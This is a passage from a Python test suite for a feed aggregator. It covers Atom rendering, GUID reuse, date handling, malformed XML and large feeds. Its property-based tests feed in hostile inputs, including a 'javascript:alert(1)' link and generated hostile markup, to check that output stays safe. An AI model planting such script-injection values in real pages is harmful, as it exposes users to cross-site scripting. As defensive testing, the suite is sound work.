LONG_TEXT = st.integers(10_000, 300_000).map(lambda size: ("Ab<c>&amp;\x01\ud800 " * (size // 16 + 1))[:size])
FIELD_TEXT = st.one_of(WILD_TEXT, LONG_TEXT, hostile_markup())
LINKS = st.one_of(
    st.none(), FIELD_TEXT, st.builds("https://news.example/{}".format, WILD_TEXT), st.just("javascript:alert(1)")
)


def entries_strategy() -> st.SearchStrategy[list[Entry]]:
    entry = st.builds(
        Entry,
        id=st.integers(1, 10**9),
        uid=FIELD_TEXT,
        feed=WILD_TEXT,
        feed_title=FIELD_TEXT,
        feed_link=LINKS,
        key=FIELD_TEXT,
        title=FIELD_TEXT,
        link=LINKS,
        author=st.one_of(st.none(), FIELD_TEXT),
        summary=FIELD_TEXT,
        content=FIELD_TEXT,
        published=DATES,
        updated=DATES,
        first_seen=DATES,
        tags=st.lists(WILD_TEXT, max_size=4).map(tuple),
        story_id=st.sampled_from([None, None, 1]),  # some entries share story 1: a story of many outlets
    )
    return st.lists(entry, min_size=1, max_size=4)


def _utc(moment: datetime) -> datetime:
    return moment.replace(tzinfo=UTC) if moment.tzinfo is None else moment.astimezone(UTC)


XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(
    entries=entries_strategy(),
    site_title=WILD_TEXT,
    zone=st.sampled_from(["UTC", "Pacific/Kiritimati", "Etc/GMT+12", "Asia/Kathmandu"]),
    now=DATES,
)
def test_rendering_never_raises_and_feeds_are_always_well_formed(
    entries: list[Entry], site_title: str, zone: str, now: datetime
) -> None:
    site = SiteConfig(title=site_title, site_url="https://news.example/", output_dir="/nonexistent", timezone=zone)
    feed = atom_feed(entries, site=site, title=site_title, self_path="feed.atom", now=now)
    root = lxml.etree.fromstring(feed)  # raises on anything ill-formed
    assert len(root.findall(f"{ATOM}entry")) == len(entries)
    latest = _utc(now).replace(microsecond=0)
    for stamp in root.iter(f"{ATOM}updated", f"{ATOM}published"):
        assert datetime.fromisoformat(stamp.text or "") <= latest, "dated after the render"
    # Stored HTML is sanitized before it is stored; render must only never let it become elements.
    assert not atom_structure_problems(root)

    source = ListSource(entries)
    stories = source.recent_stories(10)
    story_root = lxml.etree.fromstring(story_feed(stories, site=site, title=site_title, self_path="feed.atom", now=now))
    assert len(story_root.findall(f"{ATOM}entry")) == len(stories)
    assert not atom_structure_problems(story_root)
    days = source.entry_days(ZoneInfo(zone))
    pages = [index_html(source, site, now, days)]
    pages += [digest_html(source, site, day, previous_day=None, next_day=None, at_index=False) for day in days[:2]]
    pages += [tag_html(source, site, tag) for tag in sorted({tag for entry in entries for tag in entry.tags})[:2]]
    for page in pages:
        text = page.decode("utf-8")  # raises on lone surrogates
        assert not XML_FORBIDDEN.search(text)
        assert lxml.html.fromstring(page) is not None
        assert not audit_page(page), audit_page(page)
    for tag in {tag for entry in entries for tag in entry.tags}:
        path = tag_feed_path(tag)
        assert re.fullmatch(r"tags(/[a-z0-9_-][a-z0-9._-]*)+\.atom", path), path


# === 5. Identity and dates ==========================================================================


@pytest.mark.timeout(60)
def test_a_guid_reused_for_a_new_article_updates_its_row_in_place(site: Site) -> None:
    site.serve("desk", rss_document("Desk", [item("g-1", "Original headline", "First text."), item("g-2", "Other")]))
    first = site.update()
    assert "2 new, 0 updated" in first.stdout
    before = site.rows("SELECT id, uid, first_seen FROM entries WHERE key = 'g-1'")
    site.serve("desk", rss_document("Desk", [item("g-1", "A different article", "New text."), item("g-2", "Other")]))
    second = site.update()
    assert "0 new, 1 updated" in second.stdout
    after = site.rows("SELECT id, uid, first_seen, title, summary FROM entries WHERE key = 'g-1'")
    assert len(after) == 1
    assert after[0][:3] == before[0]
    assert after[0][3:] == ("A different article", "New text.")
    assert site.rows("SELECT count(*) FROM entries")[0][0] == 2


def _rfc822(moment: datetime) -> str:
    return format_datetime(moment, usegmt=moment.utcoffset() == timedelta(0))


@pytest.mark.timeout(60)
def test_dates_fall_back_to_first_seen_and_no_output_lies_in_the_future(site: Site) -> None:
    now = datetime.now(UTC).replace(microsecond=0)
    kiribati, baker, nepal = (timezone(timedelta(hours=h, minutes=m)) for h, m in ((14, 0), (-12, 0), (5, 45)))
    dated = {
        "kiribati": (now - timedelta(hours=2)).astimezone(kiribati),
        "baker": (now - timedelta(hours=3)).astimezone(baker),
        "nepal": (now - timedelta(hours=4)).astimezone(nepal),
    }
    soon = now + timedelta(hours=12)  # within the day parse tolerates: clamped to first seen by the store
    undated = {"missing": "", "junk": "sometime last week", "epoch": "Thu, 01 Jan 1970 00:00:00 +0000"}
    undated["far"] = "Thu, 01 Jan 2099 00:00:00 +0000"
    items = [item("soon", "Dated soon", extra=f"<pubDate>{_rfc822(soon)}</pubDate>")]
    items += [
        item(guid, f"Dated {guid}", extra=f"<pubDate>{_rfc822(moment)}</pubDate>") for guid, moment in dated.items()
    ]
    items += [
        item(guid, f"Undated {guid}", extra=f"<pubDate>{text}</pubDate>" if text else "")
        for guid, text in undated.items()
    ]
    site.serve("clock", rss_document("Clock Shop", items))
    site.update()

    stored = {row[0]: row[1:] for row in site.rows("SELECT key, published, first_seen, published_known FROM entries")}
    assert set(stored) == set(dated) | set(undated) | {"soon"}
    for guid, moment in dated.items():
        assert stored[guid][0] == moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"), guid
    assert stored["soon"][0] == stored["soon"][1], "a date ahead of the clock is clamped to first seen"
    for guid in undated:
        published, first_seen, known = stored[guid]
        assert published == first_seen and not known, guid

    site.render()
    rendered_by = datetime.now(UTC)
    feed = lxml.etree.fromstring((site.output_dir / "feed.atom").read_bytes())
    stamps = [datetime.fromisoformat(stamp.text or "") for stamp in feed.iter(f"{ATOM}updated", f"{ATOM}published")]
    assert len(stamps) == 1 + 2 * len(stored)
    assert max(stamps) <= rendered_by, "an output feed dates something after the render"
    published = [datetime.fromisoformat(e.findtext(f"{ATOM}published") or "") for e in feed.iter(f"{ATOM}entry")]
    assert published == sorted(published, reverse=True), "the feed is not newest first"
    for page in (path for path in site.outputs() if path.suffix == ".html"):
        for section in lxml.html.fromstring(page.read_bytes()).iter("section"):
            times = section.xpath(".//li//time/@datetime")
            assert times == sorted(times, key=datetime.fromisoformat, reverse=True), (page.name, times)


def changing_feed(poll: int, variant: str) -> bytes:
    """The same five articles on every poll, with a new lastBuildDate and, in each summary,
    a random token ("token") or one of two wordings taken in turn ("alternating")."""
    marker = f"token {secrets.token_hex(8)}" if variant == "token" else ("3 comments", "4 comments")[poll % 2]
    stamp = format_datetime(datetime(2024, 6, 1, 12, 0, tzinfo=UTC) + timedelta(minutes=poll), usegmt=True)
    items = [item(f"c-{number}", topic, f"{topic}; {marker}.") for number, topic in enumerate(TOPICS)]
    return rss_document("Restless Wire", items, channel=f"<lastBuildDate>{stamp}</lastBuildDate>")


POLLS = 3


def _poll_restless(site: Site, variant: str) -> list[CliRun]:
    runs = []
    for poll in range(POLLS):
        site.serve("restless", changing_feed(poll, variant))
        runs.append(site.update())
        assert site.rows("SELECT count(*) FROM entries")[0][0] == len(TOPICS)
        assert not site.rows("SELECT key FROM entries GROUP BY feed_id, key HAVING count(*) > 1")
    return runs


@pytest.mark.timeout(60)
@pytest.mark.parametrize("variant", ["token", "alternating"])
def test_content_that_changes_on_every_poll_never_duplicates_rows(site: Site, variant: str) -> None:
    runs = _poll_restless(site, variant)
    assert f"{len(TOPICS)} new" in runs[0].stdout
    assert all("0 new" in run.stdout for run in runs[1:])


@pytest.mark.timeout(60)
@pytest.mark.parametrize("variant", ["token", "alternating"])
def test_content_that_changes_on_every_poll_does_not_flap(site: Site, variant: str) -> None:
    runs = _poll_restless(site, variant)
    first = site.rows("SELECT key, updated FROM entries ORDER BY key")
    assert all("0 updated" in run.stdout for run in runs[1:]), [run.stdout for run in runs]
    again = site.update()
    assert "0 updated" in again.stdout
    assert site.rows("SELECT key, updated FROM entries ORDER BY key") == first


# === 6. Encodings and malformed XML =================================================================

PARSE_CASES = DATA / "parse"


@pytest.mark.timeout(90)
def test_broken_encodings_and_malformed_xml_through_the_cli(site: Site) -> None:
    readable = {
        "cp1252_declared_utf8": "Café Crypto",
        "utf8_bom": None,
        "utf16": None,
        "mixed_encodings": "UTF-8: café — €5",
        "truncated": "Complete item two",
        "undefined_entities": "Bitcoin at €60k – café talk ©",
        "invalid_characters": "A lone surrogate � and �",
    }
    for name in [*readable, "random_bytes"]:
        golden = json.loads((PARSE_CASES / f"{name}.json").read_text(encoding="utf-8"))
        content_type = golden.get("headers", {}).get("content-type", "application/xml")
        site.serve(name, (PARSE_CASES / f"{name}.xml").read_bytes(), content_type=content_type)
    site.update()
    site.render()

    statuses = site.statuses()
    for name, title in readable.items():
        assert statuses[name]["status"] == "ok", statuses[name]
        assert statuses[name]["entries"] > 0
        stored = {
            row[0]
            for row in site.rows(
                "SELECT e.title FROM entries e JOIN feeds f ON f.id = e.feed_id WHERE f.name = ?", name
            )
        }
        feed_title = site.rows("SELECT feed_title FROM feeds WHERE name = ?", name)[0][0]
        assert title is None or title in stored | {feed_title}, (name, stored)
    assert statuses["random_bytes"]["status"] == "error"
    assert statuses["random_bytes"]["last_error"].startswith("not a feed")
    assert not any(XML_FORBIDDEN.search(value) for _, _, value in site.text_values())
    for path in site.outputs():
        if path.suffix == ".atom":
            lxml.etree.fromstring(path.read_bytes())
            validate_feed(path)


BIG_ENTRY_BYTES = 20 * 2**20


def big_entry_feed() -> bytes:
    paragraph = "<p>Bitcoin <b>miners</b> report record hash rate as <a href='/difficulty'>difficulty</a> climbs.</p>"
    body = paragraph * (BIG_ENTRY_BYTES // len(paragraph) + 1)
    return rss_document("Long Read", [item("big-1", "One very long article", f"<![CDATA[{body}]]>")])


@pytest.mark.timeout(120)
def test_a_20_mb_entry_is_refused_by_default_and_stored_when_allowed(site: Site) -> None:
    document = big_entry_feed()
    assert len(document) > BIG_ENTRY_BYTES
    site.serve("default_limit", document)
    site.serve("raised_limit", document, max_bytes="30MiB")
    run = site.update()
    rendered = site.render()
    print(
        f"20 MB entry: update {run.seconds:.1f} s, peak RSS {run.peak_rss_mib:.0f} MiB; "
        f"render {rendered.seconds:.1f} s, peak RSS {rendered.peak_rss_mib:.0f} MiB"
    )

    statuses = site.statuses()
    assert statuses["default_limit"]["status"] == "error"
    assert "response larger than 15 MiB" in statuses["default_limit"]["last_error"]
    assert statuses["raised_limit"]["status"] == "ok", statuses["raised_limit"]
    (length,) = site.rows("SELECT length(summary) FROM entries WHERE key = 'big-1'")[0]
    assert length > BIG_ENTRY_BYTES
    assert run.seconds < 60 and run.peak_rss_mib < 1024


BULK_ITEMS = 50_000


def bulk_feed(count: int, now: datetime) -> bytes:
    """`count` distinct items, 30 seconds apart, newest first."""
    items = [
        item(
            f"bulk-{number}",
            f"{TOPICS[number % len(TOPICS)]} (#{number})",
            f"Item {number}: a short summary written for the tests.",
            f"<link>https://bulk.example/{number}</link>"
            f"<pubDate>{format_datetime(now - timedelta(seconds=30 * number), usegmt=True)}</pubDate>",
        )
        for number in range(count)
    ]
    return rss_document("Bulk Wire", items)


@pytest.mark.timeout(120)
def test_a_feed_of_50_000_items_is_stored_completely_in_bounded_time_and_memory(site: Site) -> None:
    document = bulk_feed(BULK_ITEMS, datetime.now(UTC))
    site.serve("bulk", document, max_bytes="30MiB")
    run = site.update()
    print(
        f"{BULK_ITEMS} items ({len(document) / 2**20:.1f} MiB): update {run.seconds:.1f} s, "
        f"peak RSS {run.peak_rss_mib:.0f} MiB"
    )
    assert f"{BULK_ITEMS} new" in run.stdout
    assert site.rows("SELECT count(DISTINCT key) FROM entries")[0][0] == BULK_ITEMS
    assert run.seconds < 90, f"{run.seconds:.1f} s"
    assert run.peak_rss_mib < 1536, f"{run.peak_rss_mib:.0f} MiB"
